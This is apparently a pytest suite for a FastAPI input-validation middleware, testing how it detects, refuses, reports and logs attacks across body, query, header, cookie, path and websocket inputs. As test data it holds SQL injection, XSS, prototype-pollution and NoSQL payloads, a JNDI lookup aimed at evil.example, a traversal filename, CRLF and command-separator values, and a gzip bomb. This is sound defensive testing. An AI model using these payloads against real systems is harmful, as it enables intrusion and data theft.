"""The layer: what is taken apart, what is refused, what is reported, and that nothing else changes."""

import asyncio
import datetime as dt
import enum
import gzip
import json
import logging
import uuid
import zlib
from collections.abc import Callable, Sequence
from decimal import Decimal
from typing import Annotated, Any, Literal

import pytest
from fastapi import APIRouter, Cookie, Depends, FastAPI, Form, Header, Query, Request, UploadFile, WebSocket
from fastapi.testclient import TestClient
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pydantic import BaseModel, Field, SecretStr, StringConstraints
from starlette.applications import Starlette
from starlette.routing import Mount
from starlette.types import ASGIApp, Message, Receive, Scope, Send
from starlette.websockets import WebSocketDisconnect

from fastapi_hardening import InputPolicy, Settings, harden
from fastapi_hardening.core.events import AttackFound, Events
from fastapi_hardening.security.input_validation import (
    InputValidationMiddleware,
    InputValidationSettings,
    ValidationReport,
    documents,
    layer,
)
from fastapi_hardening.security.input_validation.documents import Body, UnreadableError, body_texts, pointer_of
from fastapi_hardening.security.input_validation.shape import FREE, Shape, shape_of

ATTACK = "1' or '1'='1"
MARKUP = "<script>alert(1)</script>"


class Colour(enum.Enum):
    """A choice."""

    RED = "red"


class Node(BaseModel):
    """A body in which bodies are."""

    text: str = ""
    number: int = 0
    html: str = ""
    at: dt.datetime | None = None
    colour: Colour = Colour.RED
    kind: Literal["a", "b"] = "a"
    slug: Annotated[str, StringConstraints(pattern=r"^[a-z0-9-]+$")] = "x"
    password: SecretStr = SecretStr("")
    title: Annotated[str, Field(alias="Title")] = ""
    children: list["Node"] = []
    labels: dict[str, str] = {}


class Filters(BaseModel):
    """The query as a model."""

    word: str = ""
    page: int = 1


def shop() -> FastAPI:  # noqa: C901 - a list of routes
    """An application with a route for every way in."""
    app = FastAPI()

    @app.post("/nodes")
    async def nodes(node: Node) -> str:
        return node.text

    @app.post("/articles", dependencies=[InputPolicy(allow={"body.html": ["xss"], "query.q": ["*"]})])
    async def articles(node: Node, q: str = "") -> str:
        return node.html + q

    @app.get("/search")
    async def search(q: str = "", n: int = 0) -> str:
        return q

    @app.get("/filters")
    async def filters(filters: Annotated[Filters, Query()]) -> str:
        return filters.word

    @app.get("/by-name/{name}/{number}")
    async def by_name(name: str, number: uuid.UUID) -> str:
        return name

    @app.get("/files/{path:path}")
    async def files(path: str) -> str:
        return path

    @app.get("/fields")
    async def fields(x_note: Annotated[str, Header()] = "", x_count: Annotated[int, Header()] = 0) -> str:
        return x_note

    @app.get("/cookie")
    async def cookie(number: Annotated[int, Cookie()] = 0) -> int:
        return number

    @app.post("/form")
    async def form(
        note: Annotated[str, Form()] = "", number: Annotated[int, Form()] = 0, file: UploadFile | None = None
    ) -> str:
        return note

    @app.post("/raw")
    async def raw(request: Request) -> int:
        return len(await request.body())

    @app.post("/stream")
    async def stream(request: Request) -> list[int]:
        return [len(chunk) async for chunk in request.stream()]

    @app.post("/unread")
    async def unread() -> str:
        return "not read"

    @app.websocket("/echo")
    async def echo(websocket: WebSocket) -> None:
        await websocket.accept()
        try:
            while True:
                await websocket.send_text(await websocket.receive_text())
        except WebSocketDisconnect as gone:
            websocket.app.state.gone = gone.code
            await websocket.send_text("too late")

    return app


def client_of(mode: str, **more: Any) -> TestClient:
    app = shop()
    harden(app, Settings(_env_file=None, input_validation={"mode": mode} | more))
    return TestClient(app)


@pytest.fixture(scope="module")
def enforcing() -> TestClient:
    """Gives a client of an application that refuses."""
    return client_of("enforce")


@pytest.fixture
def reporting() -> TestClient:
    """Gives a client of an application that reports."""
    return client_of("report")


def pointers(answer: Any) -> set[str]:
    """Where a refusal says that something was found."""
    assert answer.status_code == 422, answer.text
    document = answer.json()
    assert document["type"].endswith("#content-refused"), document
    assert ATTACK not in answer.text
    assert "script>" not in answer.text
    return {error["pointer"] for error in document["errors"]}


# --- where ------------------------------------------------------------------------------------------------------------

WAYS_IN: list[tuple[str, str, dict[str, Any], str]] = [
    ("POST", "/nodes", {"json": {"text": ATTACK}}, "#/body/text"),
    ("POST", "/nodes", {"json": {"Title": ATTACK}}, "#/body/Title"),
    ("POST", "/nodes", {"json": {"children": [{}, {"text": MARKUP}]}}, "#/body/children/1/text"),
    ("POST", "/nodes", {"json": {"labels": {"a": ATTACK}}}, "#/body/labels/a"),
    ("POST", "/nodes", {"json": {"labels": {MARKUP: "a"}}}, "#/body/labels/*"),
    ("POST", "/nodes", {"json": {"unknown": ATTACK}}, "#/body/unknown"),
    ("POST", "/nodes", {"json": {"__proto__": {"admin": True}}}, "#/body/__proto__"),
    ("POST", "/nodes", {"json": {"constructor": {"prototype": {}}}}, "#/body/constructor"),
    ("POST", "/nodes", {"json": {"text": {"$where": "1"}}}, "#/body/text/*"),
    ("POST", "/nodes", {"content": json.dumps({"text": ATTACK})}, "#/body/text"),
    ("POST", "/raw", {"content": json.dumps([ATTACK]), "headers": {"content-type": "text/plain"}}, "#/body/0"),
    ("POST", "/raw", {"content": json.dumps(ATTACK), "headers": {"content-type": "application/x-json"}}, "#/body"),
    ("POST", "/raw", {"content": ATTACK, "headers": {"content-type": "text/plain"}}, "#/body"),
    ("POST", "/raw", {"content": ATTACK, "headers": {"content-type": "application/json"}}, "#/body"),
    ("POST", "/raw", {"content": f"<a>{MARKUP}</a>", "headers": {"content-type": "application/xml"}}, "#/body"),
    ("POST", "/raw", {"content": MARKUP, "headers": {"content-type": "application/octet-stream"}}, "#/body"),
    ("POST", "/raw", {"content": MARKUP, "headers": {"content-type": "x/unknown"}}, "#/body"),
    ("POST", "/raw", {"content": MARKUP}, "#/body"),
    ("POST", "/form", {"data": {"note": ATTACK}}, "#/body/note"),
    ("POST", "/form", {"data": {"note[$ne]": "1"}}, "#/body/*"),
    ("POST", "/form", {"data": {"note": ATTACK}, "files": {"x": ("a", b"b")}}, "#/body/note"),
    ("POST", "/form", {"files": {"file": ("../../a.php", b"b")}}, "#/body/file/filename"),
    ("GET", "/search", {"params": {"q": ATTACK}}, "#/query/q"),
    ("GET", "/search", {"params": {"other": MARKUP}}, "#/query/other"),
    ("GET", "/search", {"params": {MARKUP: ""}}, "#/query/*"),
    ("GET", "/search", {"params": {"q": "x\r\nSet-Cookie: a=b"}}, "#/query/q"),
    ("GET", "/filters", {"params": {"word": MARKUP}}, "#/query/word"),
    ("GET", "/by-name/a'%20or%20'1'='1/5a3c1d2e-8f40-4b7a-9c11-2d3e4f5a6b7c", {}, "#/path/name"),
    ("GET", "/files/a/<script>alert(1)<b>", {}, "#/path/path"),
    ("GET", "/nowhere/<script>alert(1)<b>", {}, "#/path"),
    ("GET", "/search", {"headers": {"user-agent": "${jndi:ldap://evil.example/a}"}}, "#/header/user-agent"),
    ("GET", "/search", {"headers": {"referer": "https://a.example/?q=<script>alert(1)"}}, "#/header/referer"),
    ("GET", "/search", {"headers": {"x-forwarded-for": ATTACK + " " * 600}}, "#/header/x-forwarded-for"),
    ("GET", "/fields", {"headers": {"x-note": ATTACK}}, "#/header/x-note"),
    ("GET", "/search", {"headers": {"cookie": f"a=1; b={ATTACK}"}}, "#/cookie/b"),
]


@pytest.mark.parametrize(("method", "url", "request_", "pointer"), WAYS_IN, ids=lambda value: str(value)[:40])
def test_every_way_in_is_inspected(
    enforcing: TestClient, method: str, url: str, request_: dict[str, Any], pointer: str
) -> None:
    """An attack is refused wherever it comes in; the refusal says where, and not what."""
    assert pointers(enforcing.request(method, url, **request_)) == {pointer}


HONEST: list[tuple[str, str, dict[str, Any], int]] = [
    ("POST", "/nodes", {"json": {"text": "it's 5 o'clock", "number": 1, "labels": {"a b": "c"}}}, 200),
    ("POST", "/nodes", {"json": {"password": ATTACK}}, 200),
    ("POST", "/articles?q=" + MARKUP, {"json": {"html": MARKUP}}, 200),
    ("POST", "/form", {"data": {"note": "AT&T; date"}, "files": {"file": ("é.png", b"\x89PNG<script>")}}, 200),
    ("POST", "/raw", {"content": b"\x89PNG\xff' or 1=1--", "headers": {"content-type": "image/png"}}, 200),
    ("POST", "/raw", {"content": b""}, 200),
    ("GET", "/search", {"params": {"q": "5'11\" & more"}, "headers": {"referer": "http://localhost/a"}}, 200),
    ("GET", "/files/docs/a.txt", {}, 200),
    ("GET", "/nowhere", {}, 404),
]


@pytest.mark.parametrize(("method", "url", "request_", "status"), HONEST, ids=lambda value: str(value)[:40])
def test_honest_requests_pass(
    enforcing: TestClient, method: str, url: str, request_: dict[str, Any], status: int
) -> None:
    """What is honest, allowed by the route or exempt by its type gets the application's own answer."""
    answer = enforcing.request(method, url, **request_)
    assert answer.status_code == status
    assert "content-refused" not in answer.text


TYPED: list[tuple[str, str, dict[str, Any]]] = [
    ("POST", "/nodes", {"json": {"number": ATTACK}}),
    ("POST", "/nodes", {"json": {"at": ATTACK, "colour": ATTACK, "kind": ATTACK, "slug": ATTACK}}),
    ("POST", "/form", {"data": {"number": ATTACK}}),
    ("POST", "/form", {"data": {"number": ATTACK}, "files": {"x": ("a", b"b")}}),
    ("GET", "/search", {"params": {"n": ATTACK}}),
    ("GET", "/filters", {"params": {"page": ATTACK}}),
    ("GET", "/by-name/a/1'or'1'='1", {}),
    ("GET", "/fields", {"headers": {"x-count": ATTACK}}),
    ("GET", "/cookie", {"headers": {"cookie": f"number={ATTACK}"}}),
]


@pytest.mark.parametrize(("method", "url", "request_"), TYPED, ids=lambda value: str(value)[:40])
def test_typed_fields_are_left_to_their_type(
    enforcing: TestClient, method: str, url: str, request_: dict[str, Any]
) -> None:
    """Where the route declares a type that no attack has, FastAPI refuses what is not of it, and nothing is found."""
    answer = enforcing.request(method, url, **request_)
    assert answer.status_code == 422
    assert answer.json()["type"].endswith("#validation-failed")


def test_body_that_is_no_utf8_is_inspected(enforcing: TestClient) -> None:
    """One byte that is no UTF-8 hides nothing (fastapi-guard skipped such bodies)."""
    content = b'{"text": "\xff' + ATTACK.encode() + b'"}'
    for content_type in ("application/json", "text/plain", "application/xml"):
        answer = enforcing.post("/raw", content=content, headers={"content-type": content_type})
        assert pointers(answer) == {"#/body"}
    assert pointers(enforcing.post("/form", content=b"note=%ff'+or+1=1--", headers=FORM)) == {"#/body/note"}


FORM = {"content-type": "application/x-www-form-urlencoded"}


# --- the body as the application gets it ------------------------------------------------------------------------------


def run(app: ASGIApp, scope: dict[str, Any], messages: Sequence[Message]) -> list[Message]:
    """Serves one request with these messages; gives what was sent."""
    sent: list[Message] = []
    left = list(messages)

    async def receive() -> Message:
        return left.pop(0) if left else {"type": "http.disconnect"}

    async def send(message: Message) -> None:
        sent.append(message)

    asyncio.run(app(scope, receive, send))  # type: ignore[arg-type]
    return sent


def scope_of(path: str = "/", method: str = "POST", **headers: str) -> dict[str, Any]:
    """A request with a chunked body, unless the header fields say otherwise."""
    fields = {"transfer-encoding": "chunked"} | {name.replace("_", "-"): value for name, value in headers.items()}
    return {
        "type": "http",
        "http_version": "1.1",
        "method": method,
        "path": path,
        "raw_path": path.encode(),
        "query_string": b"",
        "headers": [(name.encode(), value.encode()) for name, value in fields.items() if value],
        "client": ("192.0.2.1", 1),
        "server": ("127.0.0.1", 80),
    }


def part(data: bytes, *, more: bool = True) -> Message:
    return {"type": "http.request", "body": data, "more_body": more}


class Listener:
    """An application that notes every message that it gets, and answers 200."""

    def __init__(self, most: int = 100) -> None:
        self.seen: list[Message] = []
        self._most = most

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        while len(self.seen) < self._most:
            message = await receive()
            self.seen.append(message)
            if message["type"] == "http.disconnect":
                break
        await send({"type": "http.response.start", "status": 200, "headers": []})
        await send({"type": "http.response.body", "body": b""})


BODIES = [
    [part(b"one"), part(b""), part(b" two"), part(b"", more=False)],
    [{"type": "http.request"}],
    [part(b"x" * 50, more=False)],
    [part(b"x" * 40), part(b"y" * 40), part(b"z", more=False)],
]


@pytest.mark.parametrize("mode", ["off", "report", "enforce"])
@pytest.mark.parametrize("messages", BODIES, ids=["chunks", "bare", "one", "beyond the limit"])
def test_application_gets_every_message_as_it_came(mode: Any, messages: list[Message]) -> None:
    """What the server hands over comes to the application message by message, also beyond what is inspected."""
    listener = Listener()
    limits = InputValidationSettings(mode=mode, max_inspected_bytes=60, oversize="pass")
    sent = run(InputValidationMiddleware(listener, limits), scope_of(), messages)
    assert listener.seen == [*messages, {"type": "http.disconnect"}]
    assert sent[0]["status"] == 200


@pytest.mark.parametrize("mode", ["report", "enforce"])
def test_client_that_goes_away_is_seen_by_the_application(mode: Any) -> None:
    """A body that ends in a disconnect is not inspected; the application gets both."""
    listener = Listener()
    messages = [part(b"half of ' or 1=1-- "), {"type": "http.disconnect"}]
    run(InputValidationMiddleware(listener, InputValidationSettings(mode=mode)), scope_of(), messages)
    assert listener.seen == messages


def test_report_waits_for_nothing() -> None:
    """Where findings are only reported, the application gets a chunk before the next one has come."""
    order: list[str] = []

    async def app(scope: Scope, receive: Receive, send: Send) -> None:
        order.append(f"got {(await receive())['body'].decode()}")
        order.append(f"got {(await receive())['body'].decode()}")

    async def receive() -> Message:
        order.append(f"ask {len(order)}")
        return part(f"{len(order)}".encode(), more=len(order) < 3)

    async def serve() -> None:
        await InputValidationMiddleware(app)(scope_of(), receive, app)  # type: ignore[arg-type]

    asyncio.run(serve())
    assert order == ["ask 0", "got 1", "ask 2", "got 3"]


def test_body_that_nobody_reads_is_refused_or_left(enforcing: TestClient, reporting: TestClient) -> None:
    """An attack on a route that does not read its body is refused where findings are; else nobody has read it."""
    assert pointers(enforcing.post("/unread", json=[ATTACK])) == {"#/body/0"}
    assert reporting.post("/unread", json=[ATTACK]).status_code == 200
    assert not report_of(reporting, "/unread").found


def test_body_in_chunks_is_inspected_as_a_whole(enforcing: TestClient) -> None:
    """An attack that is cut between two chunks is found."""
    answer = enforcing.post("/stream", content=iter([b"[\"1' o", b"r '1'=", b"'1\"]"]))
    assert pointers(answer) == {"#/body/0"}
    assert sum(enforcing.post("/stream", content=iter([b"[1,", b"2]"])).json()) == 5


@pytest.mark.parametrize("version", ["1.1", "2"])
def test_body_that_does_not_announce_itself(version: str) -> None:
    """HTTP/1 announces a body; where the server has taken the announcement away, all but bare methods may have one."""
    for method, asked in (("POST", version == "2"), ("GET", False)):
        listener = Listener(1)
        middleware = InputValidationMiddleware(listener, InputValidationSettings(mode="enforce"))
        scope = scope_of(method=method, transfer_encoding="") | {"http_version": version}
        sent = run(middleware, scope, [part(MARKUP.encode(), more=False)])
        assert sent[0]["status"] == (422 if asked else 200)


# --- size and coding --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("changes", "content_type", "status"),
    [
        ({}, "application/json", 413),
        ({}, "multipart/form-data; boundary=x", 200),
        ({}, "application/octet-stream", 200),
        ({"oversize": "pass"}, "application/json", 200),
        ({"uploads": "refuse"}, "image/png", 413),
    ],
)
@pytest.mark.parametrize("declared", [True, False])
def test_what_is_too_large_is_passed_or_refused_as_configured(
    changes: dict[str, Any], content_type: str, status: int, declared: bool
) -> None:
    """A body beyond the limit is never silently half inspected: it is 413, or passed and counted as not inspected."""
    report = ValidationReport()
    limits = InputValidationSettings(mode="enforce", max_inspected_bytes=10, **changes)
    middleware = InputValidationMiddleware(Listener(), limits, report=report)
    length = {"content_length": "14", "transfer_encoding": ""} if declared else {}
    messages = [part(b"1234567"), part(b"1234567", more=False)]
    sent = run(middleware, scope_of(content_type=content_type, **length), messages)
    assert sent[0]["status"] == status
    assert report.of(None).not_inspected == 1


@pytest.mark.parametrize("declared", [True, False])
def test_report_counts_what_is_too_large(declared: bool) -> None:
    """In report mode a body beyond the limit passes and is counted as not inspected."""
    report = ValidationReport()
    middleware = InputValidationMiddleware(Listener(), InputValidationSettings(max_inspected_bytes=5), report=report)
    length = {"content_length": "9", "transfer_encoding": ""} if declared else {}
    assert run(middleware, scope_of(**length), [part(b"' or 1=1--", more=False)])[0]["status"] == 200
    assert report.of(None).not_inspected == 1
    assert not report.of(None).found


def deflated(data: bytes) -> bytes:
    return zlib.compress(data)


@pytest.mark.parametrize("encode", [gzip.compress, deflated])
def test_compressed_body_is_inspected(enforcing: TestClient, encode: Callable[[bytes], bytes]) -> None:
    """A body is inspected as it is inside of its coding."""
    coding = "deflate" if encode is deflated else "gzip"
    headers = {"content-encoding": coding, "content-type": "application/json"}
    assert pointers(enforcing.post("/raw", content=encode(json.dumps([ATTACK]).encode()), headers=headers))
    assert enforcing.post("/raw", content=encode(b"[1]"), headers=headers).status_code == 200


@pytest.mark.parametrize(
    ("coding", "content"),
    [("br", b"x"), ("gzip", b"no gzip"), ("gzip", gzip.compress(b"x")[:-9]), ("gzip", gzip.compress(b"x" * 9_000_000))],
    ids=["unknown", "wrong", "cut off", "bomb"],
)
def test_coding_that_cannot_be_undone_is_refused(coding: str, content: bytes) -> None:
    """A coding that is unknown, wrong or a bomb is 415 where findings are refused, and counted where they are not."""
    for mode, status in (("enforce", 415), ("report", 200)):
        client = client_of(mode)
        answer = client.post("/raw", content=content, headers={"content-encoding": coding})
        assert answer.status_code == status
        assert report_of(client, "/raw").not_inspected == 1


def test_large_body_is_looked_at_in_a_thread(enforcing: TestClient) -> None:
    """A body above 32 KB is inspected all the same, to its end."""
    document = {"labels": {str(number): "words and words" * 10 for number in range(400)} | {"last": ATTACK}}
    assert pointers(enforcing.post("/nodes", json=document)) == {"#/body/labels/last"}


# --- websockets -------------------------------------------------------------------------------------------------------


def test_message_of_a_websocket_closes_it(enforcing: TestClient) -> None:
    """An attack in a message closes the socket with 1008; the application is told so, and sends no more."""
    for message in (ATTACK, json.dumps({"a": [MARKUP]})):
        with enforcing.websocket_connect("/echo") as socket:
            socket.send_text("hello")
            assert socket.receive_text() == "hello"
            socket.send_text(message)
            with pytest.raises(WebSocketDisconnect) as closed:
                socket.receive_text()
        assert closed.value.code == 1008
        assert enforcing.app.state.gone == 1008  # type: ignore[attr-defined]


def test_binary_message_is_inspected_too() -> None:
    """Bytes of a websocket are read as text."""

    async def app(scope: Scope, receive: Receive, send: Send) -> None:
        seen.append(await receive())

    seen: list[Message] = []
    middleware = InputValidationMiddleware(app, InputValidationSettings(mode="enforce"))
    scope = scope_of() | {"type": "websocket"}
    sent = run(middleware, scope, [{"type": "websocket.receive", "bytes": MARKUP.encode()}])
    assert [message["type"] for message in sent] == ["websocket.close"]
    assert seen[0]["type"] == "websocket.disconnect"


def test_handshake_is_refused(enforcing: TestClient) -> None:
    """An attack in the query of a handshake is refused before the application sees it."""
    with pytest.raises(WebSocketDisconnect), enforcing.websocket_connect(f"/echo?q={MARKUP}"):
        pass  # pragma: no cover - the socket never opens


def test_websocket_is_reported(reporting: TestClient) -> None:
    """In report mode a message passes, and is counted."""
    with reporting.websocket_connect(f"/echo?q={MARKUP}") as socket:
        socket.send_text(ATTACK)
        assert socket.receive_text() == ATTACK
    report = report_of(reporting, "/echo")
    assert report.places["sql.quoted-tautology at /websocket"] == 1
    assert report.kinds["xss"] == 1


# --- report and events ------------------------------------------------------------------------------------------------


def report_of(client: TestClient, template: str | None) -> Any:
    """What was seen on a route."""
    [report] = [each for each in client.app.state.hardening.validation.routes() if each.template == template]  # type: ignore[attr-defined]
    return report


def test_report_changes_no_answer(reporting: TestClient) -> None:
    """In report mode, the default, every answer is the one of an application without the layer."""
    bare = client_of("off")
    assert Settings(_env_file=None).input_validation.mode == "report"
    for method, url, request_, _ in WAYS_IN:
        ours, theirs = reporting.request(method, url, **request_), bare.request(method, url, **request_)
        assert ours.status_code == theirs.status_code, url
        assert ours.status_code != 422 or "content-refused" not in ours.text


def test_report_says_which_routes_are_clean(reporting: TestClient) -> None:
    """The report tells for each route whether enforcing would have refused anything, and what and where."""
    reporting.get("/search", params={"q": "ok"})
    reporting.post("/nodes", json={"text": ATTACK})
    reporting.post("/nodes", json={"text": "ok"})
    assert report_of(reporting, "/search").clean
    nodes = report_of(reporting, "/nodes")
    assert (nodes.clean, nodes.inspected, nodes.found, nodes.refused) == (False, 2, 1, 0)
    assert nodes.kinds == {"sql": 1}
    assert "sql.quoted-tautology at /body/text" in nodes.places


def test_report_is_bounded() -> None:
    """However many places findings are in, the report keeps so many."""
    report = ValidationReport()
    for number in range(500):
        report.count("/", [("sql.x", f"/{number}")], refused=True)
    [route] = report.routes()
    assert len(route.places) == 200
    assert route.refused == 500


def test_finding_is_told_with_its_place_and_never_its_text(caplog: pytest.LogCaptureFixture) -> None:
    """Log and event have the finding, the pointer and the request id, and nothing of what the client sent."""
    for mode in ("report", "enforce"):
        client = client_of(mode)
        seen: list[AttackFound] = []
        client.app.state.hardening.events.subscribe(AttackFound, seen.append)  # type: ignore[attr-defined]
        with caplog.at_level(logging.WARNING, "fastapi_hardening.input_validation"):
            answer = client.post("/nodes", json={"text": ATTACK, "labels": {MARKUP: ATTACK}})
        request_id = answer.headers["x-request-id"]
        assert {(found.kind, found.pointer, found.refused) for found in seen} == {
            ("sql", "/body/text", mode == "enforce"),
            ("sql", "/body/labels/*", mode == "enforce"),
            ("xss", "/body/labels/*", mode == "enforce"),
        }
        assert {(found.template, found.request_id, found.client) for found in seen} == {
            ("/nodes", request_id, "testclient")
        }
        assert request_id in caplog.text
        assert "sql.quoted-tautology at /body/text" in caplog.text
        assert ATTACK not in caplog.text + repr(seen)
        assert MARKUP not in caplog.text + repr(seen)
        metrics = client.app.state.hardening.metrics.registry  # type: ignore[attr-defined]
        labels = {"kind": "sql", "refused": str(mode == "enforce").lower()}
        assert metrics.get_sample_value("hardening_attacks_total", labels) == 2


def test_many_findings_are_told_shortly(enforcing: TestClient) -> None:
    """A refusal names at most twenty places."""
    assert len(enforcing.post("/raw", json=[ATTACK] * 100).json()["errors"]) == 20


# --- overrides --------------------------------------------------------------------------------------------------------


def test_policies_of_all_levels_hold_and_the_innermost_wins() -> None:
    """A router enforces, a route allows a class, another one only reports; the application is off."""
    app = FastAPI()
    router = APIRouter(prefix="/api", dependencies=[InputPolicy(mode="enforce", threshold=5)])

    @router.post("/html", dependencies=[InputPolicy(allow={"body": ["xss"]})])
    @router.post("/report", dependencies=[InputPolicy(mode="report")])
    @router.post("/sql", dependencies=[InputPolicy(classes=["sql"], inspect_files=True, uploads="refuse")])
    async def take(request: Request) -> int:
        return len(await request.body())

    @app.post("/off")
    async def free(request: Request) -> int:
        return len(await request.body())

    app.include_router(router)
    harden(app, Settings(_env_file=None, input_validation={"mode": "off"}))
    client = TestClient(app)

    def statuses(text: str) -> list[int]:
        return [client.post(path, json=[text]).status_code for path in ("/api/html", "/api/report", "/api/sql", "/off")]

    assert statuses(ATTACK) == [422, 200, 422, 200]
    assert statuses(MARKUP) == [200, 200, 200, 200]
    files = {"f": ("a", ATTACK.encode())}
    assert [client.post(path, files=files).status_code for path in ("/api/html", "/api/sql")] == [200, 422]


@pytest.mark.parametrize(
    ("policy", "status"),
    [
        (InputPolicy(mode="enforce"), 500),
        (InputPolicy(), 500),
        (InputPolicy(mode="report"), 200),
        (InputPolicy(mode="off"), 200),
    ],
    ids=repr,
)
def test_policy_that_no_layer_saw_refuses(policy: InputPolicy, status: int) -> None:
    """Without its layer a policy cannot inspect, for the body is read by then; so it refuses, unless it never would."""
    app = FastAPI()

    @app.get("/", dependencies=[policy])
    async def index() -> str:
        return "served"

    assert TestClient(app, raise_server_exceptions=False).get("/").status_code == status


@pytest.mark.parametrize(
    ("arguments", "sentence"),
    [
        ({"allow": {"boddy.html": ["xss"]}}, "a place begins with"),
        ({"allow": {"body.html": ["xxs"]}}, "did you mean"),
        ({"allow": {"body": "xss"}}, "takes a list"),
        ({"classes": ["sqli"]}, "unknown class"),
        ({"mode": "on"}, "Input should be"),
        ({"threshold": 0}, "greater than"),
    ],
)
def test_mistake_in_a_policy_is_told_where_it_is_made(arguments: dict[str, Any], sentence: str) -> None:
    """A policy that cannot be is refused when it is written down."""
    with pytest.raises((ValueError, TypeError), match=sentence):
        InputPolicy(**arguments)


def test_mount_and_lifespan() -> None:
    """What is mounted is inspected by its own route, or as a path; other kinds of connections pass."""
    inner, seen = shop(), []

    async def opaque(scope: Scope, receive: Receive, send: Send) -> None:
        seen.append(scope["type"])
        await send({"type": "http.response.start", "status": 204, "headers": []})
        await send({"type": "http.response.body", "body": b""})

    app = FastAPI()
    app.mount("/inner", inner)
    app.mount("/opaque", opaque)
    app.mount("/plain", Starlette(routes=[Mount("/deep", opaque)]))
    harden(app, Settings(_env_file=None, input_validation={"mode": "enforce"}))
    client = TestClient(app)
    assert pointers(client.get("/inner/search", params={"q": ATTACK})) == {"#/query/q"}
    assert pointers(client.get("/inner/files/x;id;")) == {"#/path/path"}
    assert pointers(client.get("/opaque/<script>alert(1)<b>")) == {"#/path"}
    assert client.get("/opaque/it's").status_code == client.get("/plain/deep/x").status_code == 204
    assert pointers(client.post("/plain/deep/x", json=[ATTACK])) == {"#/body/0"}
    run(InputValidationMiddleware(opaque), {"type": "lifespan"}, [])
    assert seen[-1] == "lifespan"


def test_root_path_is_no_part_of_a_parameter() -> None:
    """Under a root path that the server puts before every path, parameters are found where they are."""
    app = shop()
    harden(app, Settings(_env_file=None, input_validation={"mode": "enforce"}))
    client = TestClient(app, root_path="/proxy")
    assert pointers(client.get("/by-name/<script>alert(1)<b>/5a3c1d2e-8f40-4b7a-9c11-2d3e4f5a6b7c")) == {"#/path/name"}


def test_without_a_bus_a_finding_is_still_logged(caplog: pytest.LogCaptureFixture) -> None:
    """The layer alone, with nothing around it, reports into the log."""
    run(InputValidationMiddleware(Listener()), scope_of(), [part(MARKUP.encode(), more=False)])
    assert "reported a request to an unknown path from 192.0.2.1: xss." in caplog.text
    assert Events().count(AttackFound) == 0


# --- documents --------------------------------------------------------------------------------------------------------


def texts(data: bytes, content_type: str, *, files: bool = False, shape: Shape = FREE) -> list[tuple[str, str]]:
    body = Body(data, content_type.partition(";")[0], content_type.encode(), "")
    return [(pointer_of(text.path), text.value) for text in body_texts(body, shape, most_bytes=100, files=files)]


MULTIPART = (
    b'preamble\r\n--x\r\nContent-Disposition: form-data; name="a"\r\n\r\none\r\n'
    b"--x\r\ncontent-disposition: form-data; name=b; filename*=utf-8''%c3%a9\r\n\r\nfile\r\n"
    b'--x\nContent-Disposition: form-data; name="c"; filename="q\\"w"\n\nmore\n--x\r\nno head\r\n--x--\r\nepilogue'
)


def test_multipart_is_read_part_by_part() -> None:
    """Fields, names of files in every notation, and what is around and between the parts."""
    kind = "multipart/form-data; boundary=x"
    assert texts(MULTIPART, kind) == [
        ("/body", "preamble"),
        ("/body/a", "a"),
        ("/body/a", "one"),
        ("/body/b", "b"),
        ("/body/b/filename", "é"),
        ("/body/c", "c"),
        ("/body/c/filename", 'q\\"w'),
        ("/body", "epilogue"),
    ]
    assert ("/body/b", "file") in texts(MULTIPART, kind, files=True)
    assert texts(b"' or 1=1", "multipart/form-data") == [("/body", "' or 1=1")]


def test_coding_is_undone_up_to_a_limit() -> None:
    """More than the limit is not believed."""
    body = Body(gzip.compress(b"x" * 200), "text/plain", b"text/plain", "gzip")
    with pytest.raises(UnreadableError):
        list(body_texts(body, FREE, most_bytes=100, files=False))


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], max_examples=60)
@given(
    data=st.binary(max_size=300),
    kind=st.sampled_from(
        ["application/json", "text/plain", "multipart/form-data; boundary=x", FORM["content-type"], ""]
    ),
)
def test_any_bytes_are_read_without_an_error(data: bytes, kind: str) -> None:
    """There is no body that cannot be taken apart."""
    for content in (data, b"--x" + data + b"--x", b"[" + data):
        assert isinstance(texts(content, kind), list)


# --- shapes -----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("annotation", "exempt"),
    [
        (int, True),
        (Decimal, True),
        (dt.timedelta, True),
        (uuid.UUID | None, True),
        (int | str, False),
        (Literal["a"] | None, True),
        (list[int], False),
        (Annotated[str, StringConstraints(pattern=r"\A[a-z]{2}(?:-[A-Z]{2})?\Z")], True),
        (Annotated[str, Field(pattern=r"^(?:red|green|\d+)$")], True),
        (Annotated[str, Field(pattern=r"^[^<>]+$")], False),
        (Annotated[str, Field(pattern=r"^.+$")], False),
        (Annotated[str, Field(pattern=r"^[a-z ]+$")], False),
        (Annotated[str, Field(pattern=r"^\w+$")], False),
        (Annotated[str, Field(pattern=r"[a-z]+")], False),
        (Annotated[str, Field(pattern=r"^a|b$")], False),
        (Annotated[str, Field(pattern=r"^[!-~]+$")], False),
        (Annotated[str, Field(pattern=r"^(?:a|<)$")], False),
        (str, False),
        (Any, False),
        (dict, False),
    ],
    ids=str,
)
def test_types_that_hold_no_attack_are_exempt(annotation: Any, exempt: bool) -> None:
    """A type is exempt if nothing that an attack is made of can be a value of it."""
    assert shape_of(annotation).exempt is exempt


def test_shapes_go_as_deep_as_the_models() -> None:
    """Members, items and values have shapes of their own, also where a model has itself as a member."""
    shape = shape_of(Node)
    assert shape.member("children").item.member("children").item.member("number").exempt
    assert not shape.member("children").item.member("text").exempt
    assert shape_of(list[int]).item.exempt
    assert shape_of(dict[str, int]).member("x").exempt
    assert not shape_of(int | list[str]).item.exempt
    assert shape_of(Annotated[str, Field(pattern="(")]) is FREE


def test_parameters_of_dependencies_count() -> None:
    """A field that a dependency declares has its shape, too; of two of one name the one that is inspected counts."""
    app = FastAPI()

    async def needs(n: int, both: str = "") -> int:
        return n

    @app.get("/")
    async def index(n: Annotated[int, Depends(needs)], both: int = 0) -> int:
        return n

    harden(app, Settings(_env_file=None, input_validation={"mode": "enforce"}))
    client = TestClient(app)
    assert client.get("/", params={"n": ATTACK}).json()["type"].endswith("#validation-failed")
    assert pointers(client.get("/", params={"n": 1, "both": ATTACK})) == {"#/query/both"}


def test_plain_header_is_looked_at_once() -> None:
    """The same header fields come again and again; a value that was plain is remembered."""
    layer._plain_header.cache_clear()
    client = client_of("enforce")
    for _ in range(3):
        client.get("/search", headers={"user-agent": "Mozilla/5.0 (X11; Linux x86_64)"})
    assert layer._plain_header.cache_info().misses == 1
